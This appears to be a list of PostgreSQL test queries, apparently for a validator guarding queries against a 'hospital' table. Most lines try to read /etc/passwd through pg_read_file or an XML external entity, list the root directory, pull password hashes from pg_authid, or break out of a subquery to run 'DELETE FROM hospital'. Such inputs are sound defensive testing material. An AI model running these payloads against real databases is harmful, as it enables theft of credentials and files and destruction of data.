SELECT xpath('/x', xmlparse(document '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'))
SELECT xmlelement(name x, xmlattributes(current_setting('data_directory') AS a))
SELECT * FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 3))
SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY pg_read_file('/etc/passwd'))
SELECT count(*) FILTER (WHERE pg_read_file('/etc/passwd') IS NULL) FROM hospital
SELECT sum(1) OVER (ORDER BY pg_read_file('/etc/passwd')) FROM hospital
SELECT DISTINCT ON (pg_read_file('/etc/passwd')) 1
SELECT count(*) FROM hospital GROUP BY CUBE (pg_read_file('/etc/passwd'), location)
SELECT 1 LIMIT (SELECT count(*) FROM pg_authid)
SELECT * FROM hospital TABLESAMPLE BERNOULLI (length(pg_read_file('/etc/passwd')))
SELECT 1 WHERE 1 BETWEEN length(pg_read_file('/etc/passwd')) AND 3
SELECT 'x' LIKE pg_read_file('/etc/passwd') ESCAPE '!'
SELECT now() AT TIME ZONE current_setting('TimeZone')
SELECT EXTRACT(epoch FROM pg_postmaster_start_time())
SELECT '{pg_authid}'::regclass[]
SELECT 'x'::information_schema.sql_identifier
SELECT pg_input_error_info('pg_authid', 'regclass')
SELECT * FROM hospital NATURAL JOIN pg_authid
WITH RECURSIVE r (a) AS (SELECT 1 UNION ALL SELECT a + 1 FROM r WHERE a < 3) SEARCH BREADTH FIRST BY a SET o SELECT * FROM r
WITH RECURSIVE r (a) AS (SELECT 1 UNION ALL SELECT a + 1 FROM r WHERE a < 3) CYCLE a SET c USING p SELECT * FROM r
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, rolpassword::tsquery FROM pg_authid')
SELECT 1) AS q (x), LATERAL (SELECT * FROM pg_authid
SELECT 1 /* */ ) x; DELETE FROM hospital; SELECT (1
SELECT hospital.xmax FROM hospital
